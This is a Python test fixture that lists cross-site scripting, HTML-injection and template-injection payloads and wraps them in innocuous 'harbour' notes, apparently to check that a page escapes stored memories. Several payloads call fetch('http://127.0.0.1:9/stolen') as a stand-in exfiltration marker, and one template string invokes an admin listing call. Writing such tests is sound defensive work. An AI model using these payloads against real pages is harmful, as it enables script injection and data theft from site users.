"""Texts that do harm on a page which does not escape them: scripts, drawings, addresses, styles."""

from __future__ import annotations

from collections.abc import Iterator

_TELL = "fetch('http://127.0.0.1:9/stolen');alert(1)"
PAYLOADS = (
    f"<script>{_TELL}</script>",
    f"</title><script>{_TELL}</script>",
    f"</textarea><script>{_TELL}</script>",
    f"\"><img src=x onerror=\"{_TELL}\">",
    f"'><svg onload={_TELL}>",
    f"<svg><script>{_TELL}</script></svg>",
    f"<svg><animate onbegin={_TELL} attributeName=x dur=1s>",
    f"<math><mtext></p><img src=x onerror={_TELL}></math>",
    "<img src=http://127.0.0.1:9/pixel.png>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
    "<style>*{background:url(http://127.0.0.1:9/x)}</style>",
    "<base href=http://127.0.0.1:9/>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=http://127.0.0.1:9/><button autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>click</a> javascript:alert(1)",
    "<details open ontoggle=alert(1)>",
    "{{ 7 * 7 }} {% for x in call.memory.admin.list() %}{{ x }}{% endfor %} ${7*7}",
    "\u202eevil\u202c \u0000 \ud83d\udca9 \u200b<b>bold</b>",
    "--><!-- ]]> <![CDATA[ &lt;script&gt; &#x3c;script&#x3e; %3Cscript%3E",
)  # fmt: skip


def memories(number: int) -> Iterator[str]:
    """Yield so many different hostile memories."""
    for place in range(number):
        yield f"Note {place} about the harbour: {PAYLOADS[place % len(PAYLOADS)]}"
